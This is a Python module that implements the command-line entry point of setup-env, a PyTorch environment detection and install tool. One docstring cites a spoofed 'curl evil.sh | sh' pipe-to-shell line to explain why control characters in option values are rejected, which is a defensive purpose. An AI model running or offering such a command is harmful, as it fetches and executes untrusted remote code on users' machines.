"""Command line: ``setup-env [COMMAND] ...``; ``main(argv) -> int`` is the only entry point.

Each command lives in ``setup_env/commands/<name>.py`` with ``add_arguments(parser)`` and
``run(args) -> int``. Command modules keep their heavy imports inside ``run`` so start-up stays
fast. With no command, ``setup-env`` runs ``check`` (detect, plan, doctor, verify).
"""

from __future__ import annotations

import argparse
import importlib
import os
import sys
from collections.abc import Sequence
from typing import NoReturn

from setup_env import __version__
from setup_env.exitcodes import ExitCode

# name -> help. Order is the order of `setup-env --help`.
COMMANDS = {
    "check": "the main job: detect, plan, doctor and verify, ending with one verdict",
    "detect": "describe this machine (or a captured one with --root)",
    "plan": "print the exact PyTorch install command for this machine, or for one you name",
    "install": "run the plan: install the planned PyTorch, then verify it",
    "verify": "prove the installed PyTorch works on this machine's devices",
    "doctor": "find what is wrong with the installed PyTorch, with the fix for each finding",
    "diagnose": "read a pasted `python -m torch.utils.collect_env` report and diagnose it",
    "matrix": "show, refresh or check the bundled PyTorch wheel matrix",
    "fleet": "many nodes: one report from their checks; SLURM and Kubernetes launchers",
    "capture": "record this machine into a folder that --root DIR replays (bug reports, tests)",
}


class UsageError(Exception):
    """A bad command line (argparse's error, or a value no option accepts)."""


class _Parser(argparse.ArgumentParser):
    """argparse, but a usage error is raised (and answered with the error envelope) instead of
    printing the usage block and exiting: ``--json`` gets JSON even for a bad command line."""

    def error(self, message: str) -> NoReturn:
        raise UsageError(message)


def _check_controls(args: argparse.Namespace) -> None:
    """No option value may carry control characters: echoed back, a newline in ``--gpu`` would
    print a line of its own (a spoofed ``$ curl evil.sh | sh`` beside the real command)."""
    for dest, value in vars(args).items():
        values = value if isinstance(value, list) else [value]
        for item in values:
            if isinstance(item, str) and not item.isprintable():
                from setup_env.bounded import one_line

                raise UsageError(
                    f"--{dest.replace('_', '-')}: control characters are not allowed "
                    f"('{one_line(item, 120)}')"
                )


def _common(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--json", action="store_true", help="print a versioned JSON document")
    parser.add_argument(
        "-v", "--verbose", action="count", default=0, help="show sources and details"
    )
    parser.add_argument(
        "--no-color", dest="color", action="store_false", default=None, help="no ANSI colour"
    )
    parser.add_argument("--color", dest="color", action="store_true", help=argparse.SUPPRESS)


def build_parser(only: str | None = None) -> argparse.ArgumentParser:
    """The argument parser. With ``only`` (a command named on the command line), just that
    command's parser is built: the others are needed only for the top-level --help and for an
    unknown command, and each costs start-up time (a parser, and its command module)."""
    parser = _Parser(
        prog="setup-env",
        description="Which PyTorch belongs on this machine, and does it really work?",
    )
    parser.add_argument("--version", action="version", version=f"setup-env {__version__}")
    sub = parser.add_subparsers(dest="command", metavar="COMMAND")
    for name, help_text in COMMANDS.items():
        if only is not None and only != name:
            continue
        p = sub.add_parser(name, help=help_text, description=help_text)
        _common(p)
        importlib.import_module(f"setup_env.commands.{name}").add_arguments(p)
    return parser


def main(argv: Sequence[str] | None = None) -> int:
    args_list = list(sys.argv[1:] if argv is None else argv)
    # `setup-env` alone, or `setup-env --json`, is `setup-env check`.
    top_level = ("-h", "--help", "--version")
    if not args_list or (args_list[0].startswith("-") and args_list[0] not in top_level):
        args_list = ["check", *args_list]
    command = args_list[0] if args_list[0] in COMMANDS else ""
    as_json = "--json" in args_list
    from setup_env.output import render

    parser = build_parser(command or None)
    try:
        args = parser.parse_args(args_list)
        _check_controls(args)
    except UsageError as exc:
        hint = f" (see: setup-env {command} --help)" if command else " (see: setup-env --help)"
        return render.fail(command, "usage", f"{exc}{hint}", ExitCode.USAGE, as_json)
    except SystemExit as exc:  # argparse: 0 for --help/--version
        return int(exc.code) if isinstance(exc.code, int) else int(ExitCode.USAGE)
    from setup_env.commands._env import problem  # a bad SETUP_ENV_* value fails like its flag

    bad_variable = problem(os.environ)
    if bad_variable:
        return render.fail(args.command, "usage", bad_variable, ExitCode.USAGE, as_json)
    module = importlib.import_module(f"setup_env.commands.{args.command}")
    try:
        return int(module.run(args))
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return int(ExitCode.INTERRUPTED)
    except BrokenPipeError:
        return int(ExitCode.OK)
    except Exception as exc:  # the last net: a bug must still answer in the documented shape
        limit = _process_limit(exc)
        if limit is not None:  # no thread or process could start: the machine's finding
            return render.fail(args.command, "process-limit", limit, ExitCode.CHECK_FAILED, as_json)
        message = f"internal error ({type(exc).__name__}: {exc}): please report it"
        return render.fail(args.command, "internal-error", message, ExitCode.UNEXAMINABLE, as_json)


def _process_limit(exc: BaseException) -> str | None:
    """The cause and fix when ``exc`` is this machine refusing a thread or a process (EAGAIN:
    RLIMIT_NPROC, a pids cgroup), else None."""
    if not isinstance(exc, (RuntimeError, OSError)):
        return None
    from setup_env.decide.smoke import classify_error

    diag = classify_error(f"{type(exc).__name__}: {exc}")
    if diag is None or diag.code != "process-limit":
        return None
    return f"{diag.cause} ({type(exc).__name__}: {exc}); fix: {diag.fix}"
